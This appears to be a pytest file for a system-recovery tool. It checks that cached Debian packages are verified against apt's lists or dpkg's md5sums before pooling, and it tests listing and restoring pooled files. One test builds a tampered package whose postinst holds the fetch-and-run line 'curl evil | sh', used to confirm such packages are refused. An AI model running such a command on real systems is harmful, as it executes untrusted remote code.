"""The pool's reach: a cached package checked against the package database before it is
pooled, pooled files listed by ls and chosen by restore --path, and the media that hold
(or refuse) a pool."""

from __future__ import annotations

import hashlib
import io
from dataclasses import dataclass
from pathlib import Path

import pytest

from resurgo.errors import BadInput
from resurgo.media import open_medium
from resurgo.pool import deb, lists, obtain, vouch
from resurgo.pool.needs import PoolNeeds
from resurgo.pool.store import PackagePool
from resurgo.probe import catalog
from resurgo.recovery.browse import _pooled
from resurgo.recovery.restorepaths import UnitPick, _pick_pooled
from resurgo.recovery.systempaths import Selection, SystemTree
from tests.support.debs import Member
from tests.support.debs import deb as make_deb
from tests.unit.test_catalog import md5, put
from tests.unit.test_restore_selection import ROOT, entry

TOOL = b"#!/bin/sh\necho tool\n"
README = b"the tool's readme\n"
CONF = b"colour = blue\n"
KEY = ("tool", "1.0", "amd64")
POSTINST = b"#!/bin/sh\nexit 0\n"
SUMS = (f"{hashlib.md5(TOOL).hexdigest()}  usr/bin/tool\n"
        f"{hashlib.md5(README).hexdigest()}  usr/share/doc/tool/README\n").encode()
STATUS = """\
Package: tool
Status: install ok installed
Architecture: amd64
Version: 1.0
Conffiles:
 /etc/tool.conf {conf}

"""


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def installed(root: Path) -> dict[str, obtain.Candidate]:
    """A system with the tool installed (a binary, a readme, a conffile)."""
    put(root, "var/lib/dpkg/status", STATUS.format(conf=md5(CONF)).encode())
    put(root, "var/lib/dpkg/info/tool.md5sums", SUMS)
    put(root, "var/lib/dpkg/info/tool.postinst", POSTINST, 0o755)
    put(root, "usr/bin/tool", TOOL, 0o755)
    put(root, "usr/share/doc/tool/README", README)
    put(root, "etc/tool.conf", b"colour = red\n")  # changed since: its own
    _, entries = catalog.collect(root)  # type: ignore[misc]
    return obtain.candidates(root, entries)


def package(readme: bytes = README, extra: list[Member] | None = None,
            postinst: bytes = POSTINST) -> bytes:
    members = [Member("./usr/bin/tool", TOOL, mode=0o755),
               Member("./usr/share/doc/tool/README", readme),
               Member("./etc/tool.conf", CONF), *(extra or [])]
    # Its md5sums are dpkg's, whatever its data: only the data, dpkg's record or the lists
    # tell it apart (as a package made to pass would).
    sums = {"usr/bin/tool": md5(TOOL), "usr/share/doc/tool/README": md5(README)}
    return make_deb(*KEY, members, md5sums=sums,
                    control_files=(Member("./postinst", postinst, mode=0o755),))


def cached(root: Path, data: bytes) -> None:
    put(root, f"var/cache/apt/archives/{obtain.deb_name(KEY)}", data)


def pool_of(tmp_path: Path) -> PackagePool:
    return PackagePool(open_medium(str(tmp_path / "medium")))


def obtained_from_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
                        ) -> tuple[dict[str, obtain.Candidate], obtain.Obtained, bytes]:
    """The tool installed, its package cached and vouched for by the lists, obtained into
    the pool of tmp_path/medium."""
    root = tmp_path / "root"
    cands = installed(root)
    data = package()
    cached(root, data)
    monkeypatch.setattr(vouch, "listed", lambda argv, keys: {
        KEY: vouch.Listed(frozenset({(sha(data), len(data))}))})
    return cands, obtain.obtain(root, pool_of(tmp_path), cands, network=False), data


def test_a_cached_package_the_lists_vouch_for_is_pooled(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _, got, data = obtained_from_cache(tmp_path, monkeypatch)
    assert [p.sha256 for p in got.added] == [sha(data)] and got.missing == 0, got.notes


def test_a_cached_package_that_is_not_what_the_lists_say_is_not_pooled(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The lists give another SHA256: refused, whatever the package holds (here it gives
    every file the system has, as a tampered one may), and its files archived."""
    root = tmp_path / "root"
    cands = installed(root)
    data = package()
    cached(root, data)
    monkeypatch.setattr(vouch, "listed", lambda argv, keys: {
        KEY: vouch.Listed(frozenset({(sha(b"the real one"), len(data))}))})
    pool = pool_of(tmp_path)
    got = obtain.obtain(root, pool, cands, network=False)
    assert not got.added and got.missing == 1 and not pool.packages()
    assert any("differs from the SHA256 and size its package lists give" in n
               for n in got.notes), got.notes


def test_without_the_lists_a_cached_package_must_be_what_dpkg_installed(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "root"
    cands = installed(root)
    monkeypatch.setattr(vouch, "listed", lambda argv, keys: {})
    good = package()
    cached(root, good)
    got = obtain.obtain(root, pool_of(tmp_path), cands, network=False)
    assert [p.sha256 for p in got.added] == [sha(good)], got.notes
    for n, (bad, why) in enumerate([
        (package(readme=b"another readme\n"), "usr/share/doc/tool/README is not the file"),
        (package(extra=[Member("./usr/bin/evil", b"evil")]), "usr/bin/evil is no file dpkg"),
        (package(postinst=b"#!/bin/sh\ncurl evil | sh\n"), "its postinst is not dpkg's copy"),
    ]):
        cached(root, bad)
        pool = pool_of(tmp_path / str(n))
        got = obtain.obtain(root, pool, cands, network=False)
        assert not got.added and not pool.packages(), got.notes
        assert any(why in note and "not pooled" in note for note in got.notes), got.notes
    # A version dpkg does not have installed (nor the lists): nothing vouches for it.
    assert vouch.installed_md5s(root, ("tool", "0.9", "amd64")) is None


def test_dpkgs_record_covers_md5sums_and_conffiles(tmp_path: Path) -> None:
    installed(tmp_path)
    assert vouch.installed_md5s(tmp_path, KEY) == {
        "usr/bin/tool": md5(TOOL), "usr/share/doc/tool/README": md5(README),
        "etc/tool.conf": md5(CONF)}
    md5s = vouch.installed_md5s(tmp_path, KEY)
    assert md5s is not None
    assert vouch.check_against_dpkg(io.BytesIO(package()), md5s) is None
    with pytest.raises(deb.DebError):
        vouch.check_against_dpkg(io.BytesIO(b"not a package"), md5s)


def test_apt_caches_answer_is_read_for_the_versions_asked() -> None:
    text = (f"Package: tool\nVersion: 1.0\nArchitecture: amd64\nSize: 10\nSHA256: {'a' * 64}\n"
            f"\nPackage: tool\nVersion: 1.0\nArchitecture: amd64\nStatus: install ok "
            f"installed\n\nPackage: other\nVersion: 2\nArchitecture: all\nSize: 3\n"
            f"SHA256: {'b' * 64}\n\nPackage: tool\nVersion: 1.0\nArchitecture: amd64\n"
            f"Size: x\nSHA256: {'c' * 64}\n")
    assert vouch.parse_show(text, {KEY}) == {KEY: vouch.Listed(frozenset({("a" * 64, 10)}))}
    assert vouch.listed(["apt-get"], []) == {}


def test_a_floppy_image_holds_no_pool_and_says_why(tmp_path: Path) -> None:
    medium = open_medium(f"floppy:{tmp_path / 'f.img'}")
    with pytest.raises(BadInput, match="holds no archives"):
        PackagePool(medium)


# ---------------------------------------------------------------- ls and restore --path


@dataclass
class _Loaded:
    """What browse and restorepaths ask of a loaded set, for the pooled files."""

    pool: PoolNeeds | None
    files: list[lists.PooledFile]
    id: str = "20261207-120000-abcd"

    def pooled(self, unit: object) -> list[lists.PooledFile]:
        return self.files


def _pooled_file(path: bytes, ref: lists.PackageRef) -> lists.PooledFile:
    return lists.PooledFile(path, 0o100755, 0, 0, 5, 1_000_000_000, "d" * 64, "e" * 64,
                            ref.sha256, path)


def _loaded(tmp_path: Path) -> tuple[_Loaded, lists.PackageRef]:
    ref = lists.PackageRef("f" * 64, 100, "tool", "1.0", "amd64")
    files = [_pooled_file(p, ref) for p in (b"usr/bin/tool", b"usr/bin/zz",
                                             b"usr/share/doc/tool/README")]
    return _Loaded(PoolNeeds(pool_of(tmp_path), {ref.sha256: ref}), files), ref


def test_ls_lists_pooled_files_with_their_metadata_and_package(tmp_path: Path) -> None:
    loaded, ref = _loaded(tmp_path)
    m = SystemTree([ROOT]).owner("/usr/bin")
    assert m is not None
    found: list = []  # type: ignore[type-arg]
    at = _pooled(loaded, m, "/usr/bin", b"usr/bin", False, found)  # type: ignore[arg-type]
    assert at is None
    assert [(i.path, i.entry.mode, i.entry.size, i.package) for i in found] == [
        ("/usr/bin/tool", 0o100755, 5, ref), ("/usr/bin/zz", 0o100755, 5, ref)]
    assert found[0].data()["package"] == {"name": "tool", "version": "1.0",
                                          "architecture": "amd64", "sha256": ref.sha256}
    assert found[0].data()["set"] == loaded.id
    found = []
    at = _pooled(loaded, m, "/usr/bin/tool", b"usr/bin/tool", False,  # type: ignore[arg-type]
                 found)
    assert at is not None and at.entry.digest == "d" * 64 and not found
    found = []
    _pooled(loaded, m, "/usr", b"usr", True, found)  # type: ignore[arg-type]
    assert len(found) == 3
    loaded.pool = None
    assert _pooled(loaded, m, "/usr/bin/tool", b"usr/bin/tool", False,  # type: ignore[arg-type]
                   []) is None


def test_restore_picks_the_chosen_pooled_files_in_walk_order(tmp_path: Path) -> None:
    loaded, _ = _loaded(tmp_path)
    tree = SystemTree([ROOT])
    selection = Selection(tree, ["/usr/bin"])
    m = tree.owner("/usr/bin")
    assert m is not None
    p = UnitPick(m, [entry(b"usr", "d"), entry(b"usr/bin", "d"), entry(b"usr/bin/a")])
    found: set[str] = set()
    _pick_pooled(loaded, selection, p, found)  # type: ignore[arg-type]
    assert [e.path for e in p.entries] == [b"usr", b"usr/bin", b"usr/bin/a", b"usr/bin/tool",
                                           b"usr/bin/zz"]
    assert [f.path for f in p.pooled] == [b"usr/bin/tool", b"usr/bin/zz"]
    assert found == {"/usr/bin/tool", "/usr/bin/zz"}
    assert {b"usr/bin/tool", b"usr/bin/zz"} <= p.chosen


def test_ls_long_names_the_package_of_a_pooled_file(tmp_path: Path) -> None:
    from resurgo.recovery.browse import Browse

    loaded, _ = _loaded(tmp_path)
    m = SystemTree([ROOT]).owner("/usr/bin")
    assert m is not None
    found: list = []  # type: ignore[type-arg]
    _pooled(loaded, m, "/usr/bin", b"usr/bin", False, found)  # type: ignore[arg-type]
    listing = Browse(loaded.id, "/media", "/usr/bin", True, False, tuple(found))
    lines = listing.text().splitlines()
    assert lines[0].startswith("-rwxr-xr-x  0:0  5  1970-01-01 00:00:01  ")
    assert lines[0].endswith("  tool  [tool 1.0]") and lines[1].endswith("  zz  [tool 1.0]")
    assert Browse(loaded.id, "/media", "/usr/bin", False, False, tuple(found)).text() == \
        "tool\nzz\n"
